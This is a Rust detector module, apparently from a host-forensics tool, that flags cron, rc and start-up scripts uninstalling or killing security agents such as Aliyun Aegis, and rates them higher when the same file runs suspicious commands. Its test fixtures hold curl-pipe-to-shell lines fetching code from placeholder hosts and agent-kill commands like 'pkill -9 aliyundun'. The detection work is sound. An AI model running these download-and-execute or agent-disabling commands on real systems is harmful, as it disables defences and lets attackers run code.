//! Security agents removed or stopped by persisted scripts (`MT-EVA-031`, T1562.001): cron, unit, rc
//! and start-up lines that uninstall or kill Aliyun Aegis/CloudMonitor, Tencent YunJing, CrowdStrike,
//! Trend Micro Deep Security and the like (`agent_tamper` indicators), or that switch SELinux, the
//! firewall or the NMI watchdog off.
//!
//! Admins run the same uninstall scripts, so a line that only removes an agent is low; in a file that
//! also carries a persistence signal (downloads into a shell, runs from temp, ...) it is medium.
//! Firewall rules against agents are `MT-EVA-030` in `firewall`.

use minetrace_schemas::findings::{Finding, Role, Severity};

use super::common::{self, quote_line};
use crate::detect::finding::{file_subject, finding, persistence_subject, FindingExt};
use crate::detect::rules;
use crate::detect::Context;
use crate::indicators::Kind;
use crate::model::persistence::PersistenceEntry;

pub fn detect(ctx: &Context) -> Vec<Finding> {
    let mut out = Vec::new();
    // The model's entries, not the file's lines: they are capped per file and a crontab's repeated job
    // line is one entry, so a shaped 50,000-line crontab costs no more than its cap (issue 18 case 7).
    for (file, _, entries) in ctx.model.persistence_files(|_| true) {
        let hits: Vec<(&PersistenceEntry, &str)> = entries
            .iter()
            .filter_map(|e| {
                let lossy = String::from_utf8_lossy(&e.command);
                ctx.iocs.find_in(Kind::AgentTamper, &lossy).map(|v| (e, v))
            })
            .take(20)
            .collect();
        if hits.is_empty() {
            continue;
        }
        // Scored only for a file that tampers with an agent, and only until one line counts.
        let suspicious = entries
            .iter()
            .any(|e| common::score_shell(&e.command, ctx.iocs).0.points > 0);
        let sev = if suspicious {
            Severity::Medium
        } else {
            Severity::Low
        };
        let mut f = finding(&rules::EVA_031, sev).subject_as(file_subject(file), Role::Context);
        for (e, v) in &hits {
            f = f
                .subject(persistence_subject(&file.path, e.line))
                .evidence(format!(
                    "{} (matches {v:?})",
                    quote_line(&file.path, e.line, &e.raw)
                ));
        }
        if suspicious {
            f = f.evidence("the same file also runs suspicious commands");
        } else {
            f = f.evidence(
                "admins run the same uninstallers; nothing else in the file is suspicious",
            );
        }
        out.push(f);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::indicators::Indicators;
    use crate::model::fixture;
    use minetrace_schemas::RawBytes;

    fn found(files: Vec<(&[u8], &[u8])>) -> Vec<Finding> {
        let model = fixture::model(
            files
                .into_iter()
                .map(|(path, text)| fixture::file(path, Some(text)))
                .collect(),
            vec![],
        );
        let iocs = Indicators::builtin();
        detect(&Context {
            model: &model,
            iocs: &iocs,
        })
    }

    #[test]
    fn an_uninstaller_is_low_alone_and_medium_beside_suspicious_lines() {
        let uninstall: &[u8] = b"#!/bin/sh\n/usr/local/aegis/uninstall.sh\n";
        let alone = found(vec![(b"/etc/rc.local", uninstall)]);
        assert_eq!(alone.len(), 1, "{alone:?}");
        assert_eq!(alone[0].severity, Severity::Low);

        // The suspicious line may come before or after the tamper line; in a comment it does not count.
        let kit: &[u8] =
            b"#!/bin/sh\ncurl -fsSL http://127.8.8.8/x.sh | sh\n/usr/local/aegis/uninstall.sh\n";
        let kit_after: &[u8] =
            b"#!/bin/sh\n/usr/local/aegis/uninstall.sh\ncurl -fsSL http://127.8.8.8/x.sh | sh\n";
        let commented: &[u8] =
            b"#!/bin/sh\n/usr/local/aegis/uninstall.sh\n# curl -fsSL http://127.8.8.8/x.sh | sh\n";
        for (text, sev) in [
            (kit, Severity::Medium),
            (kit_after, Severity::Medium),
            (commented, Severity::Low),
        ] {
            let f = found(vec![(b"/etc/rc.local", text)]);
            assert_eq!(f.len(), 1, "{f:?}");
            assert_eq!(f[0].severity, sev, "{}", String::from_utf8_lossy(text));
        }

        // A file that tampers with no agent is not reported, however suspicious its lines.
        let other: &[u8] = b"#!/bin/sh\ncurl -fsSL http://127.8.8.8/x.sh | sh\n";
        assert!(found(vec![(b"/etc/rc.local", other)]).is_empty());
    }

    #[test]
    fn judges_the_models_entries_continued_lines_included() {
        // An uninstaller alone is what admins run: low. A rc script whose agent kill continues on the
        // next physical line is still one command (the model joins it).
        let alone = found(vec![(
            b"/etc/cron.d/cleanup",
            b"0 3 * * * root /usr/local/aegis/uninstall.sh\n",
        )]);
        assert_eq!(alone.len(), 1);
        assert_eq!(alone[0].severity, Severity::Low);
        let script = found(vec![(
            b"/etc/rc.local",
            b"#!/bin/sh\npkill -9 \\\n  aliyundun\ncurl -fsSL http://198.51.100.7/x.sh | sh\n",
        )]);
        assert_eq!(script.len(), 1);
        assert_eq!(script[0].severity, Severity::Medium);
        assert!(script[0].has_subject(&persistence_subject(
            &RawBytes::from(&b"/etc/rc.local"[..]),
            2
        )));
    }

    #[test]
    fn a_huge_crontab_costs_its_capped_entries() {
        // 60,000 admin lines, then an uninstaller past the model's cap (MAX_FILE_ENTRIES per file): the
        // detector judges the entries the model kept (the model warns about the rest), not every line.
        let mut tab = Vec::new();
        for i in 0..60_000 {
            tab.extend_from_slice(
                format!("{} * * * * root /usr/local/bin/job{i}\n", i % 60).as_bytes(),
            );
        }
        tab.extend_from_slice(b"0 * * * * root /usr/local/aegis/uninstall.sh\n");
        assert!(found(vec![(b"/etc/cron.d/huge", &tab)]).is_empty());
        let mut head = b"0 * * * * root /usr/local/aegis/uninstall.sh\n".to_vec();
        head.extend_from_slice(&tab);
        let found = found(vec![(b"/etc/cron.d/huge", &head)]);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].severity, Severity::Low);
    }
}
